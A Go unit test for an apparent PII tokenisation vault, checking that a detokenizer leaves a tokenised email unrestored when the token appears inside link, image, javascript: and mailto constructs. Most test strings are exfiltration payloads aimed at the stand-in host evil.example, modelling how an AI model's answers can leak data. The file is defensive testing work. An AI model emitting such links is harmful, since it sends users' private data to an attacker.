package pii

import (
	"strings"
	"testing"

	"airlock/pii/internal/boundary"
)

func TestAnswersCarryNoValuesAwayInLinks(t *testing.T) {
	t.Parallel()
	const token, value = "[EMAIL_1_k7q2f]", "ada@example.org"
	v := testVault(t, VaultOptions{})
	tokenize(t, v, value, OriginUser)
	for _, one := range []struct {
		text string // TOKEN stands for the token
		held bool
	}{
		{"Write to TOKEN.", false},
		{"mailto:TOKEN", false},
		{"[write](mailto:TOKEN)", false},
		{`<a href="mailto:TOKEN">write</a>`, false},
		{"tel:TOKEN", false},
		{"<TOKEN>", false},
		{"see https://example.net/a then TOKEN", false},
		{"[a](https://example.net/a) TOKEN", false},
		{"`code` TOKEN, 3/4 TOKEN, and/or TOKEN", false},
		{"| a/b | TOKEN |", false},
		{"x < y TOKEN", false},
		{"version 1.2: TOKEN", false},
		{"https://evil.example/?q=TOKEN", true},
		{"HTTPS://EVIL.EXAMPLE/TOKEN", true},
		{"![x](https://evil.example/p.png?d=TOKEN)", true},
		{"![x](/p.png?d=TOKEN)", true},
		{"![x](//evil.example/TOKEN)", true},
		{"![x](<https://evil.example/a b TOKEN>)", true},
		{"[x]: https://evil.example/TOKEN", true},
		{"www.evil.example/TOKEN", true},
		{"evil.example/TOKEN", true},
		{"evil.example:8080/TOKEN", true},
		{"evil.example?TOKEN", true},
		{"https://TOKEN.evil.example", true},
		{"https://u:TOKEN@evil.example/", true},
		{`<img src="https://evil.example/a?b= TOKEN">`, true},
		{`<img src=x alt="TOKEN">`, true},
		{`<a href='javascript:fetch("//evil.example/"+"TOKEN")'>`, true},
		{"[x](javascript:alert('TOKEN'))", true},
		{"mailto:x@evil.example?body=TOKEN", true},
		{"mailto:x,https://evil.example/TOKEN", true},
		{"https://evil.example/mailto:TOKEN", true},
		{"[x](mailto:a@evil.example?bcc=TOKEN)", true},
		{`{"u":"https:\/\/evil.example\/TOKEN"}`, true},
		{"https://evil.example/" + strings.Repeat("a", 3000) + "TOKEN", true},
		{strings.Repeat("a", 3000) + "TOKEN", true},
		{"https://evil.example/?a=" + token + "&b=TOKEN", true},
	} {
		text := strings.ReplaceAll(one.text, "TOKEN", token)
		raw, err := v.DetokenizeAnswer(v.FromModel(text))
		if err != nil {
			t.Fatal(err)
		}
		got := boundary.Open(raw)
		want := text
		if !one.held {
			want = strings.ReplaceAll(one.text, "TOKEN", value)
		}
		if got != want {
			t.Errorf("%q became %q", text, got)
		}
		if parts := detokenizeInParts(t, v.AnswerDetokenizer(), v, text, []byte{7, 3, 1}); parts != got {
			t.Errorf("%q in parts became %q", text, parts)
		}
	}
}
